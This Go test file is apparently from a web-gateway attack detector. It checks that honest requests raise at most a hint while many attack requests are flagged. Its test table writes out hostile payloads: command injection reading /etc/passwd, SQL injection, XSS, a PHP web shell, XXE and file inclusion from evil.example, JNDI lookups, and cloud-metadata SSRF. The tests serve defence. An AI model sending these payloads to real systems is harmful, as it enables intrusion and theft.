package detect_test

import (
	"bufio"
	"bytes"
	"encoding/json"
	"os"
	"testing"

	"bartizan/internal/request"
	"bartizan/internal/signal"
)

// call is a request of testdata/honest.jsonl: GET without a method, and fields that are
// not empty.
type call struct {
	Kind, Method, Target, Type, Cookie, Body string
	Tags                                     request.Tags `json:"-"`
}

// signals returns what is found in c.
func (c *call) signals(t *testing.T) []signal.Signal {
	t.Helper()
	x := row{Method: c.Method, Target: c.Target}
	if x.Method == "" {
		x.Method = "GET"
	}
	r := &request.Request{Head: request.Head{Method: x.Method, Target: x.Target,
		Fields: []request.Field{{Name: "Host", Value: "api.example.com"}}}}
	for _, f := range [...][2]string{{"Content-Type", c.Type}, {"Cookie", c.Cookie}} {
		if f[1] != "" {
			r.Head.Fields = append(r.Head.Fields, request.Field{Name: f[0], Value: f[1]})
		}
	}
	r.Parse()
	r.Endpoint.Tags = c.Tags
	d := newDetector(t)
	d.Head(r)
	request.WalkBody(c.Type, []byte(c.Body), true, new(request.Scratch), func(v *request.Value) bool {
		d.Body(r, v)
		return true
	})
	return r.Signals
}

// strongest returns the strongest band of signals; found says that there are any.
func strongest(signals []signal.Signal) (band signal.Band, found bool) {
	for _, s := range signals {
		band = max(band, s.Band)
	}
	return band, len(signals) > 0
}

// What people write and what applications send is worth a hint at most, also where it
// quotes an attack or holds code: the kinds that public reports and real applications
// behind the gateway have shown.
func TestHonestRequests(t *testing.T) {
	raw, err := os.ReadFile("testdata/honest.jsonl")
	if err != nil {
		t.Fatal(err)
	}
	n, kinds := 0, map[string]int{}
	lines := bufio.NewScanner(bytes.NewReader(raw))
	for lines.Scan() {
		var c call
		if err := json.Unmarshal(lines.Bytes(), &c); err != nil || c.Kind == "" || c.Target == "" {
			t.Fatalf("line %d: %v", n+1, err)
		}
		n++
		kinds[c.Kind]++
		for _, s := range c.signals(t) {
			if s.Band > signal.Hint {
				t.Errorf("line %d (%s): %v %v at %s: %q", n, c.Kind, s.Kind, s.Band, s.Where, s.Note)
			}
		}
	}
	if lines.Err() != nil || n < 900 || len(kinds) < 25 {
		t.Errorf("read %d requests of %d kinds, %v; want all", n, len(kinds), lines.Err())
	}
}

// Each allowance for honest requests has a bound: beside it stands an attack.
func TestAttacksBesideHonest(t *testing.T) {
	const form, document = "application/x-www-form-urlencoded", "application/json"
	for name, c := range map[string]call{
		"a separator before a reference's end": {Target: "/?host=a%26amp;cat%20/etc/passwd"},
		"a command behind a value":             {Type: document, Body: `{"command":"127.0.0.1; cat /etc/passwd"}`},
		"a command behind a host":              {Type: document, Body: `{"args":"a.example;id>/tmp/x"}`},
		"a separator at once":                  {Type: document, Body: `{"comment":";cat /etc/passwd"}`},
		"a separator without space":            {Type: document, Body: `{"comment":"hello;cat /etc/passwd"}`},
		"a substitution alone":                 {Type: document, Body: `{"comment":"$(cat /etc/passwd)"}`},
		"a command in another field":           {Type: document, Body: `{"name":"x; cat /etc/passwd"}`},
		"a list that reads a file":             {Target: "/?q=a%7Ccat%20/etc/passwd%7Cb"},
		"a bar and a command":                  {Target: "/?q=a%7Cid"},
		"control bytes and a command":          {Target: "/?q=%01%02;cat%20/etc/passwd"},
		"a report's type, another document":    {Type: "application/csp-report", Body: `{"q":"' UNION SELECT password FROM users--"}`},
		"reports' type, another document":      {Type: "application/reports+json", Body: `[{"name":"' UNION SELECT password FROM users--"}]`},
		"a form's stack":                       {Method: "POST", Type: form, Body: `error=%27%20UNION%20SELECT%20password%20FROM%20users--`},
		"a title without a sentence":           {Type: document, Body: `{"title":"x' or '1'='1"}`},
		"an address whose path is an attack":   {Type: document, Body: `{"url":"https://a.example/\"><script>alert(1)</script>?a=b"}`},
		"an address in a query":                {Target: "/?url=https://a.example/?q=%3Cscript%3Ealert(1)%3C/script%3E"},
		"two words and a statement":            {Target: "/?q=1%27%20union%20select%20password%20from%20users"},
		"union select behind a literal":        {Target: "/?id=1%20union%20select"},
		"a select with a list":                 {Target: "/?q=1%20and%20(select%20password%20from%20users)"},
		"a function":                           {Target: "/?q=1%20and%20sleep(5)"},
		"a formula that sleeps":                {Type: document, Body: `{"cell":"=IF(1=1,SLEEP(5),0)"}`},
		"a formula that starts a program":      {Type: document, Body: `{"cell":"=cmd|'/c calc'!A0"}`},
		"a geometry that is left":              {Type: document, Body: `{"geom":"SRID=4326;POINT(1 2)'; DROP TABLE places--"}`},
		"a number in quotes that is left":      {Target: "/?id=%271%27%20or%20%271%27=%271"},
		"a method's cast":                      {Target: "/?select=version()::text,(select%20password%20from%20users)::text"},
		"a link that runs script":              {Type: document, Body: `{"href":"javascript:alert(1)"}`},
		"a link that hides script":             {Type: document, Body: `{"href":"javascript:void(0);alert(document.cookie)"}`},
		"a handler that runs":                  {Type: document, Body: `{"dom":"<a onclick=\"return alert(1)\">x</a>"}`},
		"a picture with script": {Method: "POST", Type: "multipart/form-data; boundary=b",
			Body: "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.svg\"\r\nContent-Type: " +
				"image/svg+xml\r\n\r\n<svg viewBox=\"0 0 1 1\" onload=\"alert(1)\"/>\r\n--b--\r\n"},
		"a drawing in a value": {Type: document, Body: `{"icon":"<svg viewBox=\"0 0 1 1\" onload=alert(1)>"}`},
		"a frame that loads":   {Target: "/?q=%3Cframe%20src=//evil.example%3E"},
		"a tag that ends":      {Target: "/?q=hello%20world%20%3Cscript%3Ealert(1)%3C/script%3E"},
		"a script by PUT": {Method: "PUT", Target: "/a/shell.php", Type: "text/plain",
			Body: "<?php system($_GET['c']);"},
		"an include that runs":                  {Type: document, Body: `{"html":"<!--#exec cmd=\"id\"-->"}`},
		"an include of a system's file":         {Type: document, Body: `{"html":"<!--#include virtual=\"/etc/passwd\"-->"}`},
		"an entity from afar":                   {Method: "POST", Type: "application/xml", Body: `<!DOCTYPE a [<!ENTITY b SYSTEM "http://evil.example/b.xml">]><a>&b;</a>`},
		"an entity of the system's":             {Method: "POST", Type: "application/xml", Body: `<!DOCTYPE a [<!ENTITY b SYSTEM "/etc/b.xml">]><a>&b;</a>`},
		"an object in a cookie":                 {Target: "/", Cookie: "s=" + `a%3A1%3A%7Bi%3A0%3BO%3A4%3A%22Evil%22%3A0%3A%7B%7D%7D`},
		"an object in a query":                  {Target: "/?d=O%3A8%3A%22stdClass%22%3A0%3A%7B%7D"},
		"an operator on a password":             {Target: "/?filters%5Bpassword%5D%5B%24ne%5D=x"},
		"an operator outside filters":           {Target: "/?user%5B%24ne%5D=x"},
		"script in a filter":                    {Target: "/?filters%5B%24where%5D=1"},
		"a lookup":                              {Target: "/?q=%24%7Bjndi:ldap://e.example/a%7D"},
		"a lookup without brackets":             {Target: "/?q=jndi:ldap://e.example/a"},
		"a template that calls":                 {Type: document, Body: `{"tpl":"${config.getClass().forName('x')}"}`},
		"a template that calculates":            {Type: document, Body: `{"tpl":"${7*7}"}`},
		"a file at its end":                     {Target: "/?f=/etc/passwd"},
		"an inclusion with a script's name":     {Target: "/?page=http://evil.example/a.php?"},
		"an inclusion from a number":            {Target: "/?page=http://203.0.113.9/x?"},
		"climbs outside of links":               {Type: document, Body: `{"note":"<b>x</b> ../../../../etc/passwd"}`},
		"a line break and a header":             {Target: "/?q=a%0d%0aSet-Cookie:%20a=b"},
		"a username at a login":                 {Method: "POST", Target: "/login", Type: document, Body: `{"username":"x' or '1'='1","password":"a"}`},
		"a password elsewhere":                  {Method: "POST", Target: "/api/things", Type: document, Body: `{"password":"x' or '1'='1"}`},
		"a macro's call":                        {Type: document, Body: `{"text":"<@include file='/etc/passwd'/>"}`},
		"a frame in another field":              {Target: "/?name=%3Ciframe%20src=https://evil.example%3E%3C/iframe%3E"},
		"a condition behind a word":             {Type: document, Body: `{"text":"x' or '1'='1"}`},
		"a comment behind a name":               {Type: document, Body: `{"user":"boss' --"}`},
		"a name in quotes behind a dollar sign": {Target: "/?q=$('cat'%20/etc/passwd)"},
		"metadata of a cloud":                   {Type: document, Body: `{"url":"http://169.254.169.254/latest/meta-data/"}`},
		"a string of a document that is left":   {Target: "/?data=%7B%22a%22%3A%221%27%20UNION%20SELECT%20password%20FROM%20users--%22%7D"},
		"behind a document":                     {Target: "/?data=%7B%22a%22%3A1%7D;cat%20/etc/passwd"},
		"a program and its argument":            {Type: document, Body: `{"name":"/bin/sh -c id"}`},
		"a path by GET":                         {Target: "/a/b;cat%20/etc/passwd"},
		"a file by PUT that climbs":             {Method: "PUT", Target: "/a/b/%2e%2e/%2e%2e/%2e%2e/etc/passwd"},
	} {
		if c.Method == "" && c.Body != "" {
			c.Method = "POST"
		}
		if c.Target == "" {
			c.Target = "/api/things"
		}
		if band, _ := strongest(c.signals(t)); band < signal.Likely {
			t.Errorf("%s: got %v; want likely or certain", name, c.signals(t))
		}
	}
}

// A route's tag says what its values are for; without it they are judged as any.
func TestTagsLowerBands(t *testing.T) {
	attack := `{"q":"1' UNION SELECT password FROM users--","s":"<script>alert(1)</script>"}`
	for _, tt := range []struct {
		tags request.Tags
		call call
		want signal.Band
	}{
		{0, call{Method: "POST", Target: "/x", Type: "application/json", Body: attack}, signal.Certain},
		{request.TagContent, call{Method: "POST", Target: "/x", Type: "application/json", Body: attack},
			signal.Certain},
		{request.TagTelemetry, call{Method: "POST", Target: "/x", Type: "application/json", Body: attack}, signal.Hint},
		{request.TagCode, call{Method: "POST", Target: "/x", Type: "application/json", Body: attack}, signal.Hint},
		{request.TagTelemetry, call{Target: "/x?q=1%27%20UNION%20SELECT%20password%20FROM%20users--"}, signal.Certain},
		{request.TagQuery, call{Target: "/x?q=1%27%20UNION%20SELECT%20password%20FROM%20users--"}, signal.Hint},
		{request.TagQuery, call{Target: "/x?q=%3Cscript%3Ealert(1)%3C/script%3E"}, signal.Certain},
		{request.TagQuery, call{Target: "/1%27%20UNION%20SELECT%20password%20FROM%20users--"}, signal.Certain},
	} {
		tt.call.Tags = tt.tags
		if got, found := strongest(tt.call.signals(t)); !found || got != tt.want {
			t.Errorf("tags %b, %s %s: got %v, found %t; want %v", tt.tags, tt.call.Target, tt.call.Body, got, found,
				tt.want)
		}
	}
}

// What stands in the query of a page is judged in the Referer of the next request as it
// was judged when the page was asked for: no less, and no more.
func TestOwnPageInReferer(t *testing.T) {
	for target, want := range map[string]signal.Band{
		"/search?q=use+%24(pwd)+here&lang=en":                             signal.Hint,
		"/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--":     signal.Certain,
		"/search/1%27%20UNION%20SELECT%20password%20FROM%20users--?a=b":   signal.Certain,
		"/search?a=b&1%27%20UNION%20SELECT%20password%20FROM%20users--=c": signal.Certain,
	} {
		r := head(newDetector(t), "/next", request.Field{Name: "Referer", Value: "https://shop.example:8443" + target},
			request.Field{Name: "Host", Value: "shop.example"})
		r.Head.Host = "shop.example"
		r.Signals = nil
		newDetector(t).Head(r)
		got, found := strongest(r.Signals)
		if !found || got != want {
			t.Errorf("%s: got %v; want %v", target, r.Signals, want)
		}
		for _, s := range r.Signals {
			if s.Where != "header:Referer" {
				t.Errorf("%s: found at %s; want the header", target, s.Where)
			}
		}
	}
}

// In the cookies of frameworks bars part a name from a time and a digest.
func TestBarsInCookies(t *testing.T) {
	for cookie, want := range map[string]bool{
		"wordpress_logged_in_0123=admin%7C1765180800%7CrJ8sUOgZ4bYcL1kq5%7Cf0e1d2c3b4a59687": false,
		"wordpress_logged_in_0123=ann|1765180800|cat|f0e1d2c3":                               false,
		"x=1|id":                 true,
		"x=1|cat /etc/passwd":    true,
		"x=ann|1765180800|cat+$": true,
	} {
		r := head(newDetector(t), "/", request.Field{Name: "Cookie", Value: cookie})
		if found := len(r.Signals) > 0; found != want {
			t.Errorf("%s: got %v; want evidence: %v", cookie, r.Signals, want)
		}
	}
}
